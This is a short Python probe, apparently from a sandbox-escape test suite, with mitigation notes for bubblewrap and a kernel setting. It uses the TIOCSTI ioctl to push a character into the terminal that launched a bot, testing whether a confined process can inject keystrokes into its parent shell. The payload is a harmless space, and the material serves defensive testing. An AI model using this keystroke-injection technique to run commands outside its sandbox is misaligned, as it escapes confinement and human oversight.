"""Types into the terminal that the bot was started from.

Mend: use bubblewrap 0.8 or newer; set the kernel's dev.tty.legacy_tiocsti to 0.
"""

from __future__ import annotations

import contextlib
import fcntl
import os
from typing import Any

PUSH_A_CHARACTER = 0x5412


def attack(_: dict[str, Any]) -> str | None:
    """On what it was given, and on its controlling terminal."""
    given = [0, 1, 2]
    with contextlib.suppress(OSError):
        given.append(os.open("/dev/tty", os.O_RDWR))
    for descriptor in given:
        try:
            fcntl.ioctl(descriptor, PUSH_A_CHARACTER, b" ")
        except OSError:
            continue
        return f"typed into descriptor {descriptor}"
    return None
